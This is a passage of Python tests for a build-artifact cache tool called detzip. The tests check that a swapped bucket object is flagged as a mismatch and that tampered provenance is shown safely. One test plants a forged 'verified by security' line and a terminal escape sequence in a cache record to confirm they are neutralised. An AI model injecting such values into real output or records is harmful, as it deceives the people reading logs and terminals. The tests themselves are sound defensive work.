    env = {**server.env(), "DETZIP_CACHE_DIR": str(tmp_path / "main")}
    built = run_cli("build", "--config", str(config), "--json", env=env)
    assert built.returncode == 0, built.stderr
    keys = {a["name"]: a["key"] for a in json.loads(built.stdout)["artifacts"]}
    server.client().put_object(
        Bucket=bucket, Key=f"t/alpha-{keys['alpha'][:16]}.zip", Body=b"EVIL"
    )  # fmt: skip  (replaced behind detzip's back)
    audit = run_cli("cache", "verify", "--config", str(config), "--json",
                    "--cache-dir", str(tmp_path / "auditor"), env=env)  # fmt: skip
    assert audit.returncode == 1, audit.stderr
    status = {a["name"]: a["status"] for a in json.loads(audit.stdout)["artifacts"]}
    assert status == {"alpha": "MISMATCH", "beta": "ok", "gamma": "ok"}
    assert "alpha" in audit.stderr and "remove the record" in audit.stderr


def test_a_provenance_cannot_forge_lines_or_drive_a_terminal(tmp_path: Path) -> None:
    src = source(tmp_path / "src")
    built = build_function(src, tmp_path / "api.zip", cache=Cache(tmp_path / "c"))
    record_path = Path(str(built.cache_entry)).with_suffix(".json")
    record = json.loads(record_path.read_text())
    record["provenance"] = {"detzip": "1.0\nok   function api  verified by security",
                            "ci": {"service": "x", "run_url": "\x1b[2J"}}  # fmt: skip
    record_path.write_bytes(canonical_json(record))
    shown = run_cli("cache", "info", "api", "--cache-dir", str(tmp_path / "c"))
    assert shown.returncode == 0, shown.stderr
    assert "\x1b" not in shown.stdout and "verified by security" in shown.stdout
    assert not any(line.startswith("ok") for line in shown.stdout.splitlines())
    assert "as its record claims" in shown.stdout
